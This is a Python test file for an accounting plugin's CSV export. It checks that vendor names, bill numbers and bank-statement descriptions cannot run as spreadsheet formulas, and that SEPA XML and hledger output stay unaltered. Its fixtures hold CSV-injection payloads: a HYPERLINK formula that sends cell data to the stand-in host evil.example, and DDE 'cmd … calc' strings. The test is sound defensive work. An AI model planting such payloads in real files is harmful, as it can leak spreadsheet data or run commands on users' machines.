"""Accounting's CSVs for people (bills, reports, the journal as CSV) open in a
spreadsheet without running a formula from a vendor's name or a bank
statement (core.csvsafe); amounts stay numbers; the machine formats (the
bank's transfer file, the hledger journal) stay exactly as they were."""

from __future__ import annotations

import csv
import io

from core.csvsafe import FORMULA_STARTS
from plugins.accounting import reports
from plugins.accounting import sepa
from plugins.accounting import service as svc

EVIL_VENDOR = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Rechnung\")"
EVIL_TEXT = "-2+3+cmd|' /C calc'!A0"
BANK = "date,amount,description\n2026-01-05,-12.50,=cmd|' /C calc'!A0\n2026-01-06,250.00,@SUM(A1:A9)\n"


def iban(country: str, bban: str) -> str:
    """As conftest's (imported from there, it clashes with other folders' conftest modules)."""
    digits = "".join(str(int(c, 36)) for c in bban + country + "00")
    return f"{country}{98 - int(digits) % 97:02d}{bban}"


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _no_formula(rows, numeric_columns=()) -> None:
    for row in rows[1:]:
        for i, cell in enumerate(row):
            if i in numeric_columns:
                float(cell)  # a number, negative ones too
            else:
                assert cell[:1] not in FORMULA_STARTS, row


def _books(ctx):
    v = svc.add_vendor(ctx, {"name": EVIL_VENDOR, "iban": iban("DE", "370400440532013000")})
    b = svc.create_bill(ctx, v["id"], "+RE-1", "2026-01-01", "2026-01-15",
                        [{"description": "@Toner", "unit_price": "100"}])
    svc.approve_bill(ctx, b["id"])
    reports.import_bank_csv(ctx, BANK)
    return v, b


def test_bills_csv_neutralises_the_vendor_and_keeps_amounts(site, office):
    bd, ctx, ids = office
    _books(ctx)
    r = site.cli("accounting", "bills", "--format", "csv")
    assert r.returncode == 0, r.stderr
    rows = _rows(r.stdout)
    assert rows[0] == ["id", "vendor", "number", "date", "due", "status", "total", "open", "currency"]
    _no_formula(rows, numeric_columns=(0, 6, 7))
    assert rows[1][1:3] == ["'" + EVIL_VENDOR, "'+RE-1"]
    assert rows[1][6:] == ["119.00", "119.00", "EUR"]


def test_reports_and_journal_csv_neutralise_text_and_keep_negative_amounts(office):
    bd, ctx, ids = office
    _books(ctx)
    rows = _rows(reports.report_csv(reports.report(ctx, "trial-balance")))
    _no_formula(rows, numeric_columns=(3,))
    assert ["accounts", "liabilities:payables", "EUR", "-119.00"] in rows
    assert ["accounts", "assets:bank:checking", "EUR", "237.50"] in rows

    rows = _rows(reports.ageing_csv(ctx, "2026-03-01"))
    _no_formula(rows, numeric_columns=(2,))
    assert rows[0] == ["bucket", "currency", "amount"]

    rows = _rows(reports.export_csv(ctx))
    assert rows[0] == ["number", "date", "description", "account", "amount", "currency", "source", "reverses"]
    _no_formula(rows, numeric_columns=(0, 4))
    descriptions = {row[2] for row in rows[1:]}
    assert "'=cmd|' /C calc'!A0" in descriptions and "'@SUM(A1:A9)" in descriptions
    assert any(row[2] == "'=cmd|' /C calc'!A0" and row[4] == "-12.50" for row in rows)
    assert any(row[4].startswith("-") for row in rows[1:])  # negative amounts: plain numbers


def test_machine_formats_are_left_as_they_were(office):
    bd, ctx, ids = office
    v, b = _books(ctx)
    run = sepa.payment_run(ctx, "2026-01-31", "2026-01-20")
    xml = sepa.pain001(ctx, run).decode()
    # the bank's file is XML in the SEPA character set: the name without its quotes, = and &; the
    # bill number as the vendor wrote it (+ is a SEPA character); no apostrophe put in front
    assert "<Nm>HYPERLINK( http://evil.example/? +A1, Rechnung )</Nm>" in xml
    assert "<Ustrd>+RE-1</Ustrd>" in xml
    journal = reports.export_hledger(ctx)
    assert "=cmd|' /C calc'!A0" in journal and "'=cmd" not in journal
